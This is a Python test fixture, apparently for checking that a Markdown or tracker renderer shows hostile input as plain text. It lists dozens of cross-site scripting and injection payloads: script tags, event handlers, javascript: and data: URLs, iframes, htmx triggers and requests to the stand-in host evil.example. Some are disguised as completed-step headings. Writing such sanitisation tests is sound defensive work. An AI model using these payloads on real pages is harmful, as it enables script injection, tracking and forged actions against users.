"""What somebody writes who wants a page to do something: it has to stay text wherever it is shown."""

PAYLOAD = (
    """"'></td><evil onload=evil() hx-get="//evil.example"></evil><script>evil()</script><img src=//evil.example/i>"""
    "[x](javascript:evil()) ![i](http://evil.example/i.png) <http://evil.example> {{ 7|evil }} ${evil}"
)

# Markdown that renderers were led astray by. Each with a heading of a step, so that a tracker's reader looks at it.
MARKDOWN = (
    "# <script>evil()</script>",
    "## Step 0: <img src=x onerror=evil()> ✅",
    "## Step 1: [x](javascript:evil()) COMPLETED",
    "## Step 2: [x](JaVaScRiPt&colon;evil()) ✅",
    "## Step 3: [x](data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=) ✅",
    "## Step 4: [x](vbscript:evil) ✅",
    "[x]: javascript:evil() 'evil'",
    "[x](<javascript:evil()>)",
    "[x](java\tscript:evil())",
    "![x](http://evil.example/pixel.png)",
    "![x](http://evil.example/x.png\" onerror=\"evil())",
    "<http://evil.example/auto>",
    "<javascript:evil()>",
    "<a href=\"javascript:evil()\">x</a>",
    "<a href='http://evil.example' target=_blank>x</a>",
    "<svg onload=evil()>",
    "<svg><script>evil()</script></svg>",
    "<math><mtext><style><img src=x onerror=evil()></style></mtext></math>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>evil()</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'</style>",
    "<form action=//evil.example><button>x</button></form><input autofocus onfocus=evil()>",
    "<details open ontoggle=evil()>x</details>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div data-hx-post=/logout/ data-hx-trigger=load>x</div>",
    "<div hx-on:htmx:load=evil()>x</div>",
    "```html\n<script>evil()</script>\n```",
    "`<script>evil()</script>`",
    "- [x] <img src=x onerror=evil()>",
    "| <img src=x onerror=evil()> | 26 tests passed |\n|---|",
    "<!-- --><script>evil()</script><!-- -->",
    "&lt;script&gt;evil()&lt;/script&gt; &#60;img src=x onerror=evil()&#62;",
    "{{ 7|evil }} {% load evil %} ${evil()} #{evil}",
    "PR #1\"><script>evil()</script>, issue #883'><svg onload=evil()>",
)  # fmt: skip
